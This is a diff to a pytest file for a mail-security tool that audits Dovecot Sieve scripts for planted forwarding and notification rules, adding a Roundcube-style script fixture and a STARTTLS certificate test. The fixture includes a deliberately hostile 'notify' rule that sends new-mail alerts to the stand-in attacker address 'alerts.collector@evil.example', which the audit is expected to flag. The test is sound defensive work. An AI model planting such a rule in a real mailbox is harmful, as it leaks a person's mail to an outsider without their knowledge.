@@ -3,14 +3,19 @@ the audit catches a redirect planted in a real Dovecot Sieve script)."""
 
 from __future__ import annotations
 
+from dataclasses import replace
+
 import pytest
 
 from civicshield.connectors.base import (
+    TLS_FAILED,
+    UNTRUSTED_CERTIFICATE,
     WRONG_PASSWORD,
     AuthenticationFailed,
     ProtocolFailed,
     ServerUnreachable,
     SieveSettings,
+    TlsFailed,
 )
 from civicshield.connectors.managesieve import SieveAccount, audit_sieve
 from civicshield.core.forwarding import HACKED_ADVICE
@@ -121,3 +126,45 @@ def test_an_unreachable_server_is_retryable():
     with pytest.raises(ServerUnreachable) as caught:
         SieveAccount(settings).connect()
     assert caught.value.retryable is True
+
+
+ROUNDCUBE_STYLE = """require ["copy","enotify","fileinto","variables"];
+# rule:[Spam]
+if header :contains "x-spam-flag" "yes"
+{
+\tfileinto "Junk";
+\tstop;
+}
+# rule:[Casework to team]
+if address :domain :is "from" "council.example.gov.uk"
+{
+\tredirect :copy "casework@example.gov.uk";
+}
+# rule:[tell me]
+if true
+{
+\tnotify :message "New mail: ${1}" "mailto:alerts.collector@evil.example";
+}
+"""
+
+
+def test_a_roundcube_style_script_accepted_by_dovecot_is_read_rule_by_rule(mail_account):
+    # Dovecot checks the script when it is uploaded, so this is a shape a real server takes.
+    plant(mail_account, "roundcube", ROUNDCUBE_STYLE, activate=True)
+    audit = audit_sieve(sieve_settings(mail_account), mail_account.address, OFFICE_DOMAINS)
+    found = {(f.rule_name, f.kind, f.target, f.alert) for f in audit.findings}
+    assert found == {
+        ("Casework to team", "redirect", "casework@example.gov.uk", False),
+        ("tell me", "notify", "alerts.collector@evil.example", True),
+    }
+
+
+def test_starttls_with_an_untrusted_certificate_is_a_tls_problem(mail_account):
+    # The session's Dovecot offers STARTTLS with its own self-signed certificate.
+    settings = replace(sieve_settings(mail_account), starttls=True)
+    with pytest.raises(TlsFailed) as caught:
+        SieveAccount(settings).connect()
+    reason = UNTRUSTED_CERTIFICATE.format(why="self-signed certificate")
+    assert str(caught.value) == TLS_FAILED.format(
+        host=settings.host, port=settings.port, reason=reason
+    )
